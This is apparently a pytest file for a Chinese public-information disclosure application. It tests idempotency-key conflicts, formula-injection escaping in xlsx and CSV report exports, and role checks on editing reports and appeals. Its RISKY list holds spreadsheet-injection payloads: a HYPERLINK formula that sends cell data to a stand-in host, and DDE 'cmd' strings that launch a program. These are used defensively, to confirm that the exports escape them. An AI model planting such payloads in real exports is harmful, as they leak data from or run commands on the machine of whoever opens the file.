"""Issue 12, attacks 7, 8 and 9 (part): each one tried through HTTP, as an attacker would.

7. An idempotency key reused with another body must not hand out the first applicant's tracking
   number and query code (services.cases.submission_digest, API 409).
8. Report texts starting with = + - @ (tab, CR) must reach xlsx and CSV as text, never as a
   formula (services.spreadsheet_safety), in the web downloads and the CLI alike.
9. The annual report's texts and figures, and the appeals behind its table 四, are edited only
   by the office head or administrator of that agency — checked in the services, so the web's
   403 is not the only line (services.report.may_state).
"""
from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from disclosure.domain import report as report_rules
from disclosure.domain.workflow import WorkflowError
from disclosure.extensions import db
from disclosure.models import Agency, Appeal, Case, Event, ReportYear, User
from disclosure.services import appeals, cases, spreadsheet_safety
from disclosure.services import report as report_svc
from disclosure.services.actors import Actor
from disclosure.services.users import create_agency, create_user
from tests.conftest import PASSWORD, login, person_payload

URL = "/api/v1/applications"


@pytest.fixture
def app(make_app):
    return make_app(FIXED_TODAY="2024-09-27")


def post_json(client, body):
    return client.post(URL, data=json.dumps(body), content_type="application/json")


def count(model) -> int:
    return db.session.execute(select(func.count()).select_from(model)).scalar_one()


# == 7. idempotency keys ==========================================================================

def test_same_key_and_same_body_gives_the_identical_201_body_and_one_case(client, agency):
    body = person_payload(idempotency_key="gateway-0001")
    first, second = post_json(client, body), post_json(client, body)
    assert first.status_code == second.status_code == 201
    assert first.get_json() == second.get_json()
    assert count(Case) == 1
    # the same submission after normalisation (spaces trimmed, key order) is the same body
    spaced = {**body, "subject": f"  {body['subject']}  ",
              "applicant": dict(reversed(list(body["applicant"].items())))}
    third = post_json(client, spaced)
    assert third.status_code == 201 and third.get_json() == first.get_json()
    assert count(Case) == 1


@pytest.mark.parametrize("change", [
    {"subject": "另一位申请人想要的另一份文件"},
    {"applicant": {**person_payload()["applicant"], "name": "李四", "phone": "13900000000"}},
    {"delivery": {"form": "paper", "method": "pickup"}},
    {"description": "补充说明也算申请内容"},
])
def test_same_key_with_another_body_is_409_and_reveals_nothing_of_the_first_case(
        client, agency, change):
    first = post_json(client, person_payload(idempotency_key="shared-7")).get_json()
    attack = post_json(client, person_payload(idempotency_key="shared-7", **change))
    assert attack.status_code == 409, attack.get_data(as_text=True)
    assert attack.mimetype == "application/json"
    answer = attack.get_json()
    assert answer["status"] == 409 and "幂等键" in answer["error"]
    text = attack.get_data(as_text=True)
    assert first["tracking_no"] not in text and first["query_code"] not in text
    assert "tracking_no" not in answer and "query_code" not in answer
    assert count(Case) == 1  # and no second case either
    # the first applicant's retry still gets the original answer
    again = post_json(client, person_payload(idempotency_key="shared-7"))
    assert again.status_code == 201 and again.get_json() == first


def test_key_is_bound_to_a_digest_of_the_validated_submission(client, agency):
    post_json(client, person_payload(idempotency_key="k-digest"))
    stored = db.session.execute(select(Case.idempotency_body_sha256)).scalar_one()
    assert len(stored) == 64 and all(c in "0123456789abcdef" for c in stored)
    post_json(client, person_payload())  # no key: nothing to bind
    assert db.session.execute(select(Case.idempotency_body_sha256)
                              .where(Case.idempotency_key.is_(None))).scalar_one() is None


def test_a_case_from_before_the_digest_column_is_checked_against_its_stored_fields(client, agency):
    first = post_json(client, person_payload(idempotency_key="legacy")).get_json()
    db.session.execute(update(Case).values(idempotency_body_sha256=None))
    db.session.commit()
    same = post_json(client, person_payload(idempotency_key="legacy"))
    assert same.status_code == 201 and same.get_json() == first
    other = post_json(client, person_payload(idempotency_key="legacy", subject="别的文件"))
    assert other.status_code == 409 and first["query_code"] not in other.get_data(as_text=True)


def test_the_race_path_refuses_another_body_too(client, agency, monkeypatch):
    """Two requests with one key at once: the loser's pre-check saw no case, its insert hits the
    unique key — and its body differs from the winner's: 409, not the winner's answer."""
    first = post_json(client, person_payload(idempotency_key="race")).get_json()
    real = cases._replay
    calls = []

    def lost_the_race(agency, key, digest):
        calls.append(key)
        return None if len(calls) == 1 else real(agency, key, digest)

    monkeypatch.setattr(cases, "_replay", lost_the_race)
    attack = post_json(client, person_payload(idempotency_key="race",
                                              subject="抢先一步的另一份申请"))
    assert len(calls) == 2  # the pre-check and the IntegrityError branch
    assert attack.status_code == 409 and first["tracking_no"] not in attack.get_data(as_text=True)
    assert count(Case) == 1
    calls.clear()
    same = post_json(client, person_payload(idempotency_key="race"))
    assert same.status_code == 201 and same.get_json() == first


def test_openapi_documents_the_409(client):
    doc = client.get("/api/v1/openapi.json").get_json()
    assert "409" in doc["paths"]["/api/v1/applications"]["post"]["responses"]


# == 8. formula injection in the exports ==========================================================

RISKY = ['=HYPERLINK("http://x.example/?d="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def head(staff, client):
    assert login(client, "office_head").status_code == 302
    return client


def _save(client, narrative: str, problems: str = "无", other: str = "无", agency="BCZ"):
    return client.post("/staff/reports/annual/2024", data={
        "agency": agency, "narrative": narrative, "problems": problems, "other_matters": other,
        "licensing_decisions": "12", "penalty_decisions": "0", "enforcement_decisions": "3",
        "fee_item_amount_10k": "1.25"})


def _cells_with(wb, text):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("payload", RISKY)
def test_xlsx_keeps_a_formula_like_report_text_as_text(head, payload):
    assert _save(head, payload, problems=payload, other=payload).status_code == 302
    resp = head.get("/staff/reports/annual/2024.xlsx?agency=BCZ")
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.data))
    found = _cells_with(wb, payload)
    assert len(found) == 3  # 一, 五 and 六
    for cell in found:
        assert cell.data_type == "s"  # a string, not "f" (formula)
        assert cell.quotePrefix  # and stays text when the cell is edited
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    # numbers stay numbers
    assert any(c.data_type == "n" and c.value == 12 for ws in wb.worksheets
               for row in ws.iter_rows() for c in row)


def test_a_leading_tab_or_cr_never_reaches_the_file(head):
    """The report texts are trimmed when saved; a tab/CR inside a text is not at a cell start.
    The helper still escapes them, for any future text that is not trimmed."""
    assert _save(head, "\t=1+1", problems="\r=2+2").status_code == 302
    wb = load_workbook(io.BytesIO(head.get("/staff/reports/annual/2024.xlsx").data))
    for text in ("=1+1", "=2+2"):
        [cell] = _cells_with(wb, text)
        assert cell.data_type == "s" and cell.quotePrefix
    for text in ("\tx", "\rx"):
        assert spreadsheet_safety.csv_cell(text) == "'" + text


def test_csv_cells_that_start_like_a_formula_get_a_quote(head, monkeypatch):
    """The CSV holds figures and fixed labels today; any text that ever lands in it is escaped
    (here: labels that start like a formula, as a renamed row would)."""
    real = report_rules.csv_rows

    def with_risky_labels(data):
        risky = [("extra", key, "value", text, "元", -3)
                 for key, text in zip(("a", "b", "c", "d"), RISKY)]
        return real(data) + risky + [("extra", "tab", "", "\tx", "", "")]

    monkeypatch.setattr(report_rules, "csv_rows", with_risky_labels)
    resp = head.get("/staff/reports/annual/2024.csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    extra = {r[1]: r for r in rows if r[0] == "extra"}
    for key, text in zip(("a", "b", "c", "d"), RISKY):
        assert extra[key][3] == "'" + text
        assert extra[key][4] == "元" and extra[key][5] == "-3"  # numbers stay numbers
    assert extra["tab"][3] == "'\tx"
    figures = [r for r in rows if r[0] == "table3"]
    assert figures and all(r[5].isdigit() for r in figures)


def test_cli_xlsx_export_is_escaped_too(app, staff, tmp_path):
    report_svc.save_year(db.session.get(Agency, staff["office_head"].agency_id), 2024,
                         {"narrative": RISKY[0]}, Actor.of(staff["office_head"]))
    out = tmp_path / "r.xlsx"
    result = app.test_cli_runner().invoke(args=["report", "annual", "--year", "2024",
                                                "--agency", "BCZ", "--format", "xlsx",
                                                "--output", str(out)])
    assert result.exit_code == 0, result.output
    [cell] = _cells_with(load_workbook(out), RISKY[0])
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_helper_leaves_numbers_and_plain_text_alone():
    from decimal import Decimal
    for value in (12, -3, Decimal("-1.50"), 0.5, "12.50", "-3", "包场镇", "", None, "a=b"):
        assert spreadsheet_safety.csv_cell(value) == value
    for value in ("=1", "+1+1", "-1-1", "@x", "\t1", "\r1", "-", "+"):
        assert spreadsheet_safety.csv_cell(value) == "'" + value


# == 9. who edits the report texts and the appeals ================================================

FORM = {"agency": "BCZ", "narrative": "（一）主动公开", "problems": "人手不足",
        "other_matters": "无",
        "licensing_decisions": "12", "penalty_decisions": "0", "enforcement_decisions": "3",
        "fee_item_amount_10k": "1.25"}


@pytest.fixture
def outsiders(staff):
    create_agency("OTH", "另一镇人民政府")
    create_user("oth-head", PASSWORD, "OTH", ["office_head"], "外机关负责人")
    create_user("platform", PASSWORD, "OTH", ["platform_admin"], "平台管理员")


@pytest.mark.parametrize("role", ["registrar", "handler", "reviewer"])
def test_other_staff_cannot_save_the_report_texts(client, staff, role):
    assert login(client, role).status_code == 302
    page = client.get("/staff/reports/annual?year=2024&agency=BCZ").get_data(as_text=True)
    assert 'action="/staff/reports/annual/2024"' not in page  # no form offered…
    assert 'id="report-read-only"' in page  # …but a word on who edits it
    assert client.post("/staff/reports/annual/2024", data=FORM).status_code == 403
    assert count(ReportYear) == 0
    assert not db.session.execute(select(Event).where(Event.action == "report_year_saved")).first()


@pytest.mark.parametrize("role", ["office_head", "admin"])
def test_the_office_head_and_the_agency_admin_save_them(client, staff, role):
    assert login(client, role).status_code == 302
    page = client.get("/staff/reports/annual?year=2024&agency=BCZ").get_data(as_text=True)
    assert 'action="/staff/reports/annual/2024"' in page
    assert client.post("/staff/reports/annual/2024", data=FORM).status_code == 302
    assert db.session.execute(select(ReportYear.problems)).scalar_one() == "人手不足"


def test_a_head_of_another_agency_cannot_edit_this_agencys_report(client, staff, outsiders):
    assert login(client, "oth-head").status_code == 302
    assert client.post("/staff/reports/annual/2024", data=FORM).status_code == 403
    assert count(ReportYear) == 0
    # and the service refuses it by itself, whatever a view or script asks
    bcz = db.session.execute(select(Agency).where(Agency.code == "BCZ")).scalar_one()
    oth_head = _actor("oth-head")
    for who in (oth_head, Actor.of(staff["handler"]), Actor(None, "系统", frozenset({"system"}))):
        with pytest.raises(WorkflowError) as exc:
            report_svc.save_year(bcz, 2024, FORM, who)
        assert exc.value.code == "forbidden"
    assert count(ReportYear) == 0


def test_a_platform_admin_reads_every_report_but_edits_none(client, staff, outsiders):
    assert login(client, "platform").status_code == 302
    assert client.get("/staff/reports/annual/2024.json?agency=BCZ").status_code == 200
    page = client.get("/staff/reports/annual?year=2024&agency=BCZ").get_data(as_text=True)
    assert 'action="/staff/reports/annual/2024"' not in page
    assert client.post("/staff/reports/annual/2024", data=FORM).status_code == 403
    assert count(ReportYear) == 0


def test_an_agency_admin_reads_only_its_own_agencys_report(client, staff, outsiders):
    assert login(client, "admin").status_code == 302
    assert client.get("/staff/reports/annual/2024.json?agency=OTH").status_code == 403
    assert client.get("/staff/reports/annual/2024.json").get_json()["agencies"] == ["BCZ"]


def _actor(username: str) -> Actor:
    return Actor.of(db.session.execute(select(User).where(User.username == username)).scalar_one())


def _case(staff) -> Case:
    bcz = db.session.get(Agency, staff["registrar"].agency_id)
    return cases.register_paper(bcz, person_payload(), "in_person", date(2024, 3, 1),
                                Actor.of(staff["registrar"]), date(2024, 3, 1)).case


APPEAL = {"kind": "reconsideration", "filed_on": "2024-04-01", "result": "pending"}


@pytest.mark.parametrize("role", ["registrar", "handler", "reviewer"])
def test_other_staff_cannot_record_appeals(client, staff, role):
    case = _case(staff)
    head = Actor.of(staff["office_head"])
    appeal = appeals.add_appeal(case, APPEAL, head, date(2024, 4, 2))
    assert login(client, role).status_code == 302
    page = client.get(f"/staff/cases/{case.id}").get_data(as_text=True)
    assert f'action="/staff/cases/{case.id}/appeals' not in page  # neither form is offered
    resp = client.post(f"/staff/cases/{case.id}/appeals", data=APPEAL)
    assert resp.status_code == 403 and 'id="appeal-refused"' in resp.get_data(as_text=True)
    resp = client.post(f"/staff/cases/{case.id}/appeals/{appeal.id}",
                       data={"result": "corrected", "decided_on": "2024-06-01"})
    assert resp.status_code == 403
    db.session.expire_all()
    assert count(Appeal) == 1
    assert db.session.get(Appeal, appeal.id).result == "pending"


def test_the_office_head_records_appeals(client, staff):
    case = _case(staff)
    assert login(client, "office_head").status_code == 302
    page = client.get(f"/staff/cases/{case.id}").get_data(as_text=True)
    assert f'action="/staff/cases/{case.id}/appeals"' in page
    assert client.post(f"/staff/cases/{case.id}/appeals", data=APPEAL).status_code == 302
    appeal = db.session.execute(select(Appeal)).scalar_one()
    assert client.post(f"/staff/cases/{case.id}/appeals/{appeal.id}",
                       data={"result": "upheld", "decided_on": "2024-06-01"}).status_code == 302


def test_a_head_of_another_agency_cannot_record_this_agencys_appeals(app, client, staff,
                                                                      outsiders):
    case = _case(staff)
    appeal = appeals.add_appeal(case, APPEAL, Actor.of(staff["office_head"]), date(2024, 4, 2))
    assert login(client, "oth-head").status_code == 302
    assert client.post(f"/staff/cases/{case.id}/appeals", data=APPEAL).status_code in (403, 404)
    resp = client.post(f"/staff/cases/{case.id}/appeals/{appeal.id}",
                       data={"result": "upheld", "decided_on": "2024-06-01"})
    assert resp.status_code in (403, 404)  # 404: staff of another agency do not see the case
    # a platform administrator sees the case but may not record its appeals
    platform = app.test_client()
    assert login(platform, "platform").status_code == 302
    assert platform.post(f"/staff/cases/{case.id}/appeals", data=APPEAL).status_code == 403
    # the services refuse by themselves
    oth_head = _actor("oth-head")
    with pytest.raises(WorkflowError):
        appeals.add_appeal(case, APPEAL, oth_head, date(2024, 4, 2))
    with pytest.raises(WorkflowError):
        appeals.record_result(appeal, {"result": "upheld", "decided_on": "2024-06-01"}, oth_head,
                              date(2024, 6, 2))
    db.session.expire_all()
    assert count(Appeal) == 1 and db.session.get(Appeal, appeal.id).result == "pending"


def test_the_new_refusals_are_translatable():
    import i18n_tools
    msgids = {m.id if isinstance(m.id, str) else m.id[0] for m in i18n_tools.extract() if m.id}
    assert cases.IdempotencyConflict.message in msgids
    assert appeals.REFUSAL in msgids and report_svc.REFUSAL in msgids
